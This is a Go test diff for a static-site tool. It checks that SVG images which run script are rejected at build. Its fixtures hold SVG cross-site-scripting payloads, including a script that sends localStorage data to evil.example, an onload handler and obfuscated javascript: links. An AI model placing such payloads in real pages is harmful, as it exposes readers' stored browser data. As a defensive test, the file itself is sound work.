@@ -106,3 +106,69 @@ func TestStaticFileThatIsNotItsImage(t *testing.T) {
 		t.Errorf("public/kuvat/kaavio.png = %q, %v; want it published as it is", got, err)
 	}
 }
+
+// TestSVGThatRunsScriptIsAnError: an SVG file is a document a browser
+// runs scripts in when it is opened by its own address, as the portal's
+// origin, where the scripts reach what readers keep in their browsers.
+// An SVG under static/ that holds a script, in any of the ways a browser
+// takes one, is an error at the place of it, and build publishes nothing;
+// drawings as drawing programs save them, text that merely mentions a
+// script and links to web addresses are not.
+func TestSVGThatRunsScriptIsAnError(t *testing.T) {
+	t.Parallel()
+	const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`
+	cases := []struct {
+		file, data string
+		fi, en     string // "": no error
+	}{
+		{"kuvat/kaavio.svg", "<?xml version=\"1.0\"?>\n" + svg + "\n  <rect width=\"10\" height=\"10\"/>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script>\n</svg>\n",
+			"content/static/kuvat/kaavio.svg:4:3: SVG-kuvassa on <script>, jonka selain suorittaa, kun kuva avataan omaan välilehteensä: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten kuvaa ei julkaista: poista se kuvasta tekstieditorissa tai tallenna kuva PNG-muodossa",
+			"content/static/kuvat/kaavio.svg:4:3: the SVG image holds <script>, which a browser runs when the image is opened in a tab of its own: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the image is not published: remove it from the image in a text editor, or save the image as PNG"},
+		{"kuvat/kuvake.svg", svg + "<rect width=\"1\" height=\"1\"\n      onload=\"alert(1)\"/></svg>",
+			"content/static/kuvat/kuvake.svg:2:7: SVG-kuvassa on onload, jonka selain",
+			"content/static/kuvat/kuvake.svg:2:7: the SVG image holds onload, which a browser"},
+		{"kuvat/linkki.svg", svg + "<a xlink:href=\"&#x6A;ava&#9;script:alert(1)\"><text>x</text></a></svg>",
+			"content/static/kuvat/linkki.svg:1:107: SVG-kuvassa on javascript:, jonka",
+			"content/static/kuvat/linkki.svg:1:107: the SVG image holds javascript:, which"},
+		{"kuvat/animaatio.svg", svg + "<a><set attributeName=\"href\" to=\"JavaScript:alert(1)\"/><text>x</text></a></svg>",
+			"content/static/kuvat/animaatio.svg:1:133: SVG-kuvassa on javascript:,",
+			"content/static/kuvat/animaatio.svg:1:133: the SVG image holds javascript:,"},
+		{"kuvat/upotus.svg", svg + "<foreignObject width=\"10\" height=\"10\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"/x.html\"/></foreignObject></svg>",
+			"content/static/kuvat/upotus.svg:1:104: SVG-kuvassa on <foreignObject>,",
+			"content/static/kuvat/upotus.svg:1:104: the SVG image holds <foreignObject>,"},
+		// A doctype's entity is put in its place by a browser.
+		{"kuvat/entiteetti.svg", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]>\n" + svg + "&x;</svg>",
+			"content/static/kuvat/entiteetti.svg:2:28: SVG-kuvassa on <script>,",
+			"content/static/kuvat/entiteetti.svg:2:28: the SVG image holds <script>,"},
+		{"kuvat/piirros.svg", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- Created with Inkscape -->\n" + svg + "<title>Ohje: älä kirjoita &lt;script&gt; sivulle</title><a href=\"https://thl.fi/\"><text>Lähde: thl.fi</text></a><image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></svg>\n", "", ""},
+	}
+	dir := portal(t)
+	for _, c := range cases {
+		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
+	}
+	for _, lang := range []string{"fi", "en"} {
+		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
+		if code != 1 {
+			t.Errorf("check --lang %s: exit status %d, want 1\n%s", lang, code, out)
+		}
+		for _, c := range cases {
+			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
+			if want == "" {
+				if strings.Contains(out, "content/static/"+c.file+":") {
+					t.Errorf("check --lang %s tells of %s, which runs nothing:\n%s", lang, c.file, out)
+				}
+				continue
+			}
+			if lines(out, want) != 1 {
+				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
+			}
+		}
+	}
+	code, out, errOut := helminauha(t, dir, "build")
+	if code != 1 {
+		t.Errorf("build: exit status %d, want 1\n%s%s", code, out, errOut)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "public", "kuvat", "kaavio.svg")); !os.IsNotExist(err) {
+		t.Errorf("build published kuvat/kaavio.svg (%v)", err)
+	}
+}
